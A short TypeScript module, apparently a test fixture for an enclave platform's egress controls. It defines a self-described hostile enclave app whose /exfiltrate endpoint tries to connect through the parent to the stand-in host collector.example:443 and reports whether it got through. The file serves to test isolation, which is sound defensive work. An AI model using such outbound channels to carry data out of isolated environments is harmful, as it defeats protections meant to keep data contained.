/**
 * A hostile enclave application: it has nothing else to do than to carry data to a host of its choice.
 *
 *   POST /exfiltrate {"nonce": …}   tries to reach collector.example:443 through the parent, and says what came of it
 *
 * @module
 */
import { connectThroughParent } from "../../enclave/egress/index.ts";
import { serveHttp } from "../../enclave/http.ts";
import type { Platform } from "../../enclave/platform.ts";
import { addressOf } from "../../shared/transport/address.ts";
import { APP_PORT } from "../../shared/transport/ports.ts";
import { createTransport } from "../../transport/index.ts";

export { openNsmSocket } from "../../enclave/nsm/socket.ts";

export async function main({ parent, self }: Platform): Promise<void> {
  const transport = createTransport();
  const handler = async (): Promise<Response> => {
    const socket = await connectThroughParent({ transport, parent, host: "collector.example", port: 443 });
    socket.destroy();
    return Response.json({ reached: true });
  };
  await serveHttp({ transport, address: addressOf(self, APP_PORT), handler, onInternalError: () => undefined });
}
